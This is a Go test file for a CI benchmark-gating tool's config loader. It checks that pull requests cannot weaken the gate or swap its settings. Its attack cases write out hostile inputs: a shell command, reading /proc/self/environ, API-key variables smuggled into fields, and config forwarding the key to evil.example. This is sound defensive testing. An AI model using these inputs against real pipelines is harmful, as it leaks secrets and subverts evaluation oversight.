package config_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/benchgate/benchgate/baselines"
	"github.com/benchgate/benchgate/internal/config"
	"github.com/benchgate/benchgate/internal/problem"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// tree is a commit's files. It keeps the names that were asked for.
type tree struct {
	files map[string]string
	links []string
	asked map[string]bool
}

func (t tree) ReadFile(_ context.Context, name string) ([]byte, string, error) {
	if t.asked != nil {
		t.asked[name] = true
	}
	if slices.Contains(t.links, name) {
		return nil, "is a link", nil
	}
	text, ok := t.files[name]
	if !ok {
		return nil, "", fs.ErrNotExist
	}
	return []byte(text), "", nil
}

const baseFile = `suite: {name: s, trusted: true, tasks: [{path: tasks/a}, {path: tasks/b}]}
baseline: {agent: claude-code@2.1.330, model: m1, settings: {files: {CLAUDE.md: CLAUDE.md}}}
candidate: {agent: claude-code@2.1.330, model: m2, settings: {arguments: [--verbose], files: {CLAUDE.md: CLAUDE.md}}}
limits: {attempts: 5, usd: 20}
gate: {pass_rate: {max_drop: 0.20}}
pull_requests:
  arguments: [--brief, [--max-thinking-tokens, "8000"]]
  agents: [claude-code@2.2.0]
  files: [docs/HINTS.md]
`

// judge reads the base branch's file beside what a head has.
func judge(t testing.TB, base string, head tree, f config.Flags) (*config.Config, []config.Change, error) {
	t.Helper()
	dir := t.TempDir()
	for name, text := range map[string]string{"benchgate.yaml": base, "CLAUDE.md": "of the base"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return config.Propose(t.Context(), filepath.Join(dir, "benchgate.yaml"), f, config.Head{File: "ci/benchgate.yaml", Tree: head})
}

// headOf is a head whose configuration is the base's with one text replaced.
func headOf(t testing.TB, old, by string) tree {
	t.Helper()
	if !strings.Contains(baseFile, old) {
		t.Fatalf("the base's file has no %s", old)
	}
	return tree{files: map[string]string{"ci/benchgate.yaml": strings.Replace(baseFile, old, by, 1), "ci/CLAUDE.md": "of the head"}}
}

func TestAPullRequestProposesItsCandidate(t *testing.T) {
	got, changes, err := judge(t, baseFile, headOf(t, "candidate: {agent: claude-code@2.1.330, model: m2, settings: {arguments: [--verbose]",
		`candidate: {name: "New (fast)", agent: claude-code@2.2.0, model: "claude-opus-4-8[1m]", settings: {effort: high, max_turns: 7, arguments: [--max-thinking-tokens, "8000", --brief, --verbose]`), config.Flags{})
	if err != nil {
		t.Fatal(err)
	}
	want := &config.Variant{
		Name: "New (fast)", Agent: config.Agent{Name: "claude-code", Version: "2.2.0"}, Model: "claude-opus-4-8[1m]",
		Settings: config.Settings{
			Effort: "high", MaxTurns: 7, Arguments: []string{"--max-thinking-tokens", "8000", "--brief", "--verbose"},
			Files: map[string]config.File{"CLAUDE.md": {Path: "CLAUDE.md", Content: []byte("of the head")}},
		},
	}
	if diff := cmp.Diff(want, got.Candidate, cmpopts.IgnoreUnexported(config.File{})); diff != "" {
		t.Errorf("candidate (-want +got):\n%s", diff)
	}
	if text := string(got.Baseline.Settings.Files["CLAUDE.md"].Content); text != "of the base" || len(changes) > 0 {
		t.Errorf("the baseline has the file %q, and changes are %+v", text, changes)
	}
	if err := got.ReadFiles(t.Context()); err != nil || string(got.Candidate.Settings.Files["CLAUDE.md"].Content) != "of the head" {
		t.Errorf("read again it is %q (%v)", got.Candidate.Settings.Files["CLAUDE.md"].Content, err)
	}
}

// The same words in both files are two settings when the head's tree has another
// text under that name.
func TestAChangedFileIsTheOneDifference(t *testing.T) {
	base := strings.NewReplacer("model: m2", "model: m1", ", settings: {arguments: [--verbose], files", ", settings: {files").Replace(baseFile)
	head := tree{files: map[string]string{"ci/benchgate.yaml": base, "ci/CLAUDE.md": "of the head"}}
	got, _, err := judge(t, base, head, config.Flags{})
	if err != nil {
		t.Fatal(err)
	}
	if got.Compare != baselines.CompareSettings || got.Incomparable() != "" {
		t.Errorf("compare is %s: %s", got.Compare, got.Incomparable())
	}
}

// What a head may not have is refused with its place in the head's file.
func TestWhatAHeadMayNotHaveIsRefused(t *testing.T) {
	const agent, arguments, files = "agent: claude-code@2.1.330, model: m2", "arguments: [--verbose]", "files: {CLAUDE.md: CLAUDE.md}}}\nlimits"
	for _, tt := range []struct{ name, old, by, want string }{
		{"a program", agent + ", settings: {" + arguments + ", " + files, "agent: command, settings: {command: [sh, -c, id]}}\nlimits", "settings.command is not that of the base branch"},
		{"an agent that nobody allowed", agent + ", settings: {" + arguments + ", " + files, "agent: oracle}\nlimits", "agent is oracle, which the base branch's file does not allow: add it there to pull_requests.agents, or use claude-code@2.1.330 or claude-code@2.2.0"},
		{"a version that nobody allowed", agent, "agent: claude-code@2.0.0, model: m2", "agent is claude-code@2.0.0"},
		{"recordings", agent + ", settings: {" + arguments + ", " + files, "agent: replay, model: m2, settings: {recordings: /root}}\nlimits", "settings.recordings is not that of the base branch"},
		{"an argument", arguments, "arguments: [--verbose, --mcp-config, x]", `arguments has "--mcp-config", which the base branch's file does not allow`},
		{"half an argument", arguments, "arguments: [--max-thinking-tokens]", `arguments has "--max-thinking-tokens"`},
		{"another value of an argument", arguments, `arguments: [--max-thinking-tokens, "9"]`, `arguments has "--max-thinking-tokens"`},
		{"a variable in an argument", arguments, `arguments: ["${ANTHROPIC_API_KEY}"]`, `arguments has "${ANTHROPIC_API_KEY}"`},
		{"a variable in a model", "model: m2", `model: "${ANTHROPIC_API_KEY}"`, "${NAME} is only replaced in headers"},
		{"a variable in a name", agent, `name: "${ANTHROPIC_API_KEY}", ` + agent, "${NAME} is only replaced in headers"},
		{"a variable in a file", files, `files: {CLAUDE.md: "${HOME}/x"}}}` + "\nlimits", "${NAME} is only replaced in headers"},
		{"a variable in a file's place", files, `files: {"${HOME}": CLAUDE.md}}}` + "\nlimits", "is not replaced"},
		{"a model that is an option", "model: m2", "model: --dangerously-skip", `model is "--dangerously-skip", want the name of a model`},
		{"a name that is Markdown", agent, `name: "<img src=x> @all", ` + agent, "name is"},
		{"a file that tests would read", files, "files: {conftest.py: CLAUDE.md}}}\nlimits", "settings.files.conftest.py is placed where it could do more than instruct the agent"},
		{"settings that start programs", files, "files: {.claude/./settings.json: CLAUDE.md}}}\nlimits", "could do more than instruct the agent"},
		{"the environment as a file", files, "files: {.claude/x.md: /proc/self/environ}}}\nlimits", "want a path relative to this file, and below its directory"},
		{"a file above", files, "files: {.claude/x.md: ../x}}}\nlimits", "want a path relative to this file"},
		{"git's own file", files, "files: {.claude/x.md: .git/config}}}\nlimits", "not of git"},
		{"a link", files, "files: {.claude/x.md: link}}}\nlimits", `candidate.settings.files..claude/x.md is "link", which is a link`},
		{"a file that is not there", files, "files: {.claude/x.md: none.md}}}\nlimits", `candidate.settings.files..claude/x.md is "none.md", which does not exist`},
		{"more files than anybody needs", files, "files: {" + manyFiles(101) + "}}}\nlimits", "names 101 files, want at most 100"},
		{"no candidate", "candidate: {agent: claude-code@2.1.330, model: m2, settings: {arguments: [--verbose], files: {CLAUDE.md: CLAUDE.md}}}\n", "", "there is no candidate any more"},
		{"a merge key", agent, "<<: {agent: nop}, " + agent, "merge keys (<<) are not supported"},
		{"a tag", "model: m2", "model: !!binary bTI=", "candidate.model is"},
		{"a tag of its own", "model: m2", "model: !env ANTHROPIC_API_KEY", "candidate.model is"},
		{"a key twice", agent, agent + ", model: m3", `key "model" is there twice`},
		{"two documents", "limits:", "---\nlimits:", "a second document begins here"},
		{"an anchor for everything", "candidate: {", "candidate: &all {name: *all, ", "candidate.name is a mapping"},
		{"a mistake elsewhere", "usd: 20", "usd: -1", "limits.usd is -1"},
		{"no YAML", "limits: {", "limits: }", "this is not YAML"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			head := headOf(t, tt.old, tt.by)
			head.links = []string{"ci/link"}
			got, _, err := judge(t, baseFile, head, config.Flags{})
			if got != nil || err == nil {
				t.Fatalf("it is taken: %+v", got)
			}
			found := false
			for _, e := range problem.Split(err) {
				p, ok := errors.AsType[*problem.Problem](e)
				if !ok || p.File != "ci/benchgate.yaml" || p.Line < 1 || p.Column < 1 || !strings.HasPrefix(p.Message, "in the pull request's head: ") {
					t.Errorf("no place in the head's file: %v", e)
				}
				found = found || strings.Contains(e.Error(), tt.want)
			}
			if !found {
				t.Errorf("error is\n%v\nwant %s", err, tt.want)
			}
		})
	}
}

func manyFiles(n int) string {
	var all []string
	for i := range n {
		all = append(all, fmt.Sprintf(".claude/f%d: CLAUDE.md", i))
	}
	return strings.Join(all, ", ")
}

// attacks are heads that try to be judged otherwise than the base says, each with
// what is told of it. None has an effect.
var attacks = []struct {
	name, old, by string
	want          []string // "key: from -> to", or "key"
}{
	{"fewer tasks", ", {path: tasks/b}", "", []string{"suite.tasks: 2 -> 1"}},
	{"easier tasks", "{path: tasks/b}", `{git: "https://evil.example/x", path: b, tier: easy}`, []string{"suite.tasks"}},
	{"a wider margin", "max_drop: 0.20", "max_drop: 0.95", []string{"gate.pass_rate.max_drop: 0.2 -> 0.95"}},
	{"no margin of its own", "gate: {pass_rate: {max_drop: 0.20}}", "gate: {typical_cost: off, on_inconclusive: pass, alpha: 0.001}", []string{
		"gate.pass_rate.max_drop: 0.2 -> default", "gate.typical_cost.max_ratio: default -> off", "gate.alpha: default -> 0.001", "gate.on_inconclusive: default -> pass",
	}},
	{"an easier baseline", "model: m1", "model: worse", []string{"baseline"}},
	{"another origin of the baseline", "model: m1", "model: m1, from: stored", []string{"baseline.from: default -> stored"}},
	{"its own prices", "gate:", "prices: free.json\ngate:", []string{"prices"}},
	{"its own API", "gate:", `api: {base_url: "https://evil.example", headers: {x-key: "${ANTHROPIC_API_KEY}"}}` + "\ngate:", []string{"api.base_url", "api.headers"}},
	{"no sandbox", "gate:", "sandbox: process\ngate:", []string{"sandbox: default -> process"}},
	{"its own receiver", "gate:", `telemetry: {forward: {endpoint: "https://evil.example", headers: {x-key: "${ANTHROPIC_API_KEY}"}}}` + "\ngate:", []string{"telemetry"}},
	{"more money", "usd: 20", "usd: 999999", []string{"limits.usd: 20 -> 999999"}},
	{"fewer attempts", "attempts: 5, ", "", []string{"limits.attempts: 5 -> default"}},
	{"another question", "gate:", "compare: settings\ngate:", []string{"compare: default -> settings"}},
	{"another lock", "gate:", "lock: mine.lock\ngate:", []string{"lock"}},
	{"its own baselines", "gate:", "baselines: {branch: mine}\ngate:", []string{"baselines.branch"}},
	{"its own permission", "agents: [claude-code@2.2.0]", "agents: [claude-code@2.2.0, command]", []string{"pull_requests"}},
	{"an alias that changes what it copies", "limits: {", "limits: &l {workers: 9, ", []string{"limits.workers: default -> 9"}},
}

func TestNothingElseOfAHeadHasAnEffect(t *testing.T) {
	clean, _, err := judge(t, baseFile, headOf(t, "limits", "limits"), config.Flags{})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range attacks {
		t.Run(tt.name, func(t *testing.T) {
			got, changes, err := judge(t, baseFile, headOf(t, tt.old, tt.by), config.Flags{})
			if err != nil {
				t.Fatal(err)
			}
			sameBut(t, clean, got)
			if diff := cmp.Diff(tt.want, told(changes)); diff != "" {
				t.Errorf("changes (-want +got):\n%s", diff)
			}
		})
	}
}

// sameBut compares two configurations of different directories, without their
// candidates.
func sameBut(t testing.TB, want, got *config.Config) {
	t.Helper()
	local := strings.NewReplacer(want.Dir, "", got.Dir, "")
	diff := cmp.Diff(want, got, asText, cmpopts.IgnoreUnexported(config.File{}), cmpopts.IgnoreFields(config.Config{}, "Candidate"),
		cmp.Comparer(func(a, b string) bool { return local.Replace(a) == local.Replace(b) }))
	if diff != "" {
		t.Errorf("the head changed what the base says (-base +result):\n%s", diff)
	}
}

func told(changes []config.Change) []string {
	var all []string
	for _, c := range changes {
		if c.From+c.To == "" {
			all = append(all, c.Key)
			continue
		}
		all = append(all, c.Key+": "+c.From+" -> "+c.To)
	}
	return all
}

func TestAChangeHasItsLineInTheHead(t *testing.T) {
	_, changes, err := judge(t, baseFile, headOf(t, "gate: {pass_rate: {max_drop: 0.20}}", "gate:\n  pass_rate:\n    max_drop: 0.35\n  mode: strict"), config.Flags{})
	if err != nil {
		t.Fatal(err)
	}
	want := []config.Change{{Key: "gate.mode", From: "default", To: "strict", Line: 8}, {Key: "gate.pass_rate.max_drop", From: "0.2", To: "0.35", Line: 7}}
	if diff := cmp.Diff(want, changes); diff != "" {
		t.Errorf("changes (-want +got):\n%s", diff)
	}
}

// A pull request that takes the file away, or moves it, is judged by the base's:
// until it is merged, the gate stands.
func TestAHeadWithoutTheFileProposesNothing(t *testing.T) {
	got, changes, err := judge(t, baseFile, tree{}, config.Flags{})
	if err != nil {
		t.Fatal(err)
	}
	if got.Candidate.Model != "m2" || string(got.Candidate.Settings.Files["CLAUDE.md"].Content) != "of the base" {
		t.Errorf("the candidate is %+v", got.Candidate)
	}
	if diff := cmp.Diff([]config.Change{{To: "removed", Line: 1}}, changes); diff != "" {
		t.Errorf("changes (-want +got):\n%s", diff)
	}
}

func TestWithoutAFileOfTheBaseNothingIsJudged(t *testing.T) {
	_, _, err := config.Propose(t.Context(), filepath.Join(t.TempDir(), "benchgate.yaml"), config.Flags{}, config.Head{File: "benchgate.yaml", Tree: headOf(t, "m", "m")})
	if !errors.Is(err, fs.ErrNotExist) || !strings.Contains(err.Error(), "merge it first, or measure it by hand with workflow_dispatch") {
		t.Errorf("error is %v", err)
	}
}

// Whether there is anything to measure: another name of a file changes nothing, and
// another content of it does.
func TestAnUnchangedCandidateIsKnown(t *testing.T) {
	same := headOf(t, "limits", "limits")
	same.files["ci/CLAUDE.md"] = "of the base"
	renamed := headOf(t, "[--verbose], files: {CLAUDE.md: CLAUDE.md", "[--verbose], files: {CLAUDE.md: OTHER.md")
	renamed.files["ci/OTHER.md"] = "of the base"
	model := headOf(t, "model: m2", "model: m3")
	model.files["ci/CLAUDE.md"] = "of the base"
	for name, test := range map[string]struct {
		head tree
		want bool
	}{
		"nothing":                {same, true},
		"a file under its name":  {headOf(t, "limits", "limits"), false},
		"a file's name":          {renamed, true},
		"the model":              {model, false},
		"the configuration gone": {tree{}, true},
	} {
		got, _, err := judge(t, baseFile, test.head, config.Flags{})
		if err != nil || got.Unchanged != test.want {
			t.Errorf("%s: unchanged is %v (%v), want %v", name, got != nil && got.Unchanged, err, test.want)
		}
	}
}

func TestAWorkflowsFlagsWinOverTheHead(t *testing.T) {
	got, _, err := judge(t, baseFile, headOf(t, "model: m2", "model: m3"), config.Flags{Model: "m9", USD: "5"})
	if err != nil || got.Candidate.Model != "m9" || *got.Limits.USD != 5 {
		t.Errorf("candidate %+v, limits %+v (%v)", got.Candidate, got.Limits, err)
	}
}

// What the base itself says is the base's own, so the head may repeat it.
func TestAHeadMayRepeatWhatTheBaseSays(t *testing.T) {
	for _, arm := range []string{
		`{name: "<b>", agent: command, model: --odd, settings: {command: [sh, solve.sh]}}`,
		`{agent: replay, model: m, settings: {recordings: recordings/m}}`,
	} {
		base := "suite: {tasks: [{path: a}]}\nbaseline: " + arm + "\ncandidate: " + arm + "\n"
		got, changes, err := judge(t, base, tree{files: map[string]string{"ci/benchgate.yaml": base}}, config.Flags{})
		if err != nil || len(changes) > 0 {
			t.Fatalf("%v, %+v", err, changes)
		}
		if r := got.Candidate.Settings.Recordings; r != "" && r != filepath.Join(got.Dir, "recordings", "m") {
			t.Errorf("recordings are %s, not those of the base", r)
		}
	}
}

// A head of a mebibyte that says one text ten thousand times costs no more than
// its bytes.
func TestAHeadCannotGrow(t *testing.T) {
	long := strings.Repeat("x", 100_000)
	for name, candidate := range map[string]string{
		"arguments": "{agent: claude-code@2.1.330, model: m2, settings: {arguments: [&x " + long + strings.Repeat(", *x", 20_000) + "]}}",
		"files":     "{agent: claude-code@2.1.330, model: m2, settings: {files: {a: &x " + long + ", b: *x}}}",
		"nesting":   strings.Repeat("[", 50_000),
		"aliases":   "{a: &a [x, x], b: &b [*a, *a], c: &c [*b, *b], d: &d [*c, *c], e: &e [*d, *d], f: [*e, *e]}",
	} {
		t.Run(name, func(t *testing.T) {
			head := headOf(t, "limits", "limits")
			head.files["ci/benchgate.yaml"] = "suite: {tasks: [{path: a}]}\ncandidate: " + candidate + "\n"
			got, _, err := judge(t, baseFile, head, config.Flags{})
			if got != nil || err == nil || len(err.Error()) > 10_000 {
				t.Errorf("it is taken, or told at length: %d bytes", len(fmt.Sprint(err)))
			}
		})
	}
}

// FuzzPropose gives a head what nobody would write. Whatever it is, the result is
// the base's but for a candidate within the rules, or nothing.
func FuzzPropose(f *testing.F) {
	f.Add([]byte(baseFile))
	for _, a := range attacks {
		f.Add([]byte(strings.Replace(baseFile, a.old, a.by, 1)))
	}
	f.Add([]byte("candidate: &a {agent: command, settings: {command: [*a], files: {.claude/x.md: /proc/self/environ}, arguments: ['${A}']}}\n"))
	dir := f.TempDir()
	file := filepath.Join(dir, "benchgate.yaml")
	for name, text := range map[string]string{file: baseFile, filepath.Join(dir, "CLAUDE.md"): "of the base"} {
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			f.Fatal(err)
		}
	}
	propose := func(ctx context.Context, head []byte, asked map[string]bool) (*config.Config, []config.Change, error) {
		t := tree{files: map[string]string{"benchgate.yaml": string(head), "CLAUDE.md": "of the head"}, asked: asked}
		return config.Propose(ctx, file, config.Flags{}, config.Head{File: "benchgate.yaml", Tree: t})
	}
	clean, _, err := propose(context.Background(), []byte(baseFile), nil)
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, head []byte) {
		asked := make(map[string]bool)
		got, changes, err := propose(t.Context(), head, asked)
		for name := range asked {
			if !filepath.IsLocal(name) || strings.Contains(name, ".git/") {
				t.Errorf("the head's file led to %q", name)
			}
		}
		if err != nil {
			if got != nil {
				t.Error("a configuration beside an error")
			}
			return
		}
		for _, c := range changes {
			if len(c.From+c.To) > 40 || c.Line < 1 {
				t.Errorf("impossible change %+v", c)
			}
		}
		v := got.Candidate
		if len(v.Settings.Command) > 0 || v.Settings.Recordings != "" || v.Agent.Name != "claude-code" || len(v.Settings.Files) > 100 {
			t.Errorf("candidate is %+v", v)
		}
		for _, file := range v.Settings.Files {
			if string(file.Content) != "of the head" && string(file.Content) != string(head) {
				t.Errorf("a file from elsewhere: %q", file.Content)
			}
		}
		if text, _ := json.Marshal(v.Settings.Arguments); strings.Contains(string(text), "${") {
			t.Errorf("arguments are %s", text)
		}
		if maps.Equal(asked, map[string]bool{"benchgate.yaml": true}) == (len(v.Settings.Files) > 0) {
			t.Errorf("of %d files these were asked for: %v", len(v.Settings.Files), asked)
		}
		sameBut(t, clean, got)
	})
}

func TestWhereAHeadMayPlaceFiles(t *testing.T) {
	got, _, err := judge(t, baseFile, headOf(t, "files: {CLAUDE.md: CLAUDE.md}}}\nlimits", "files: {docs/HINTS.md: CLAUDE.md, ./CLAUDE.md: CLAUDE.md, .claude/agents/x.md: CLAUDE.md}}}\nlimits"), config.Flags{})
	if err != nil || len(got.Candidate.Settings.Files) != 3 {
		t.Errorf("%v", err)
	}
}
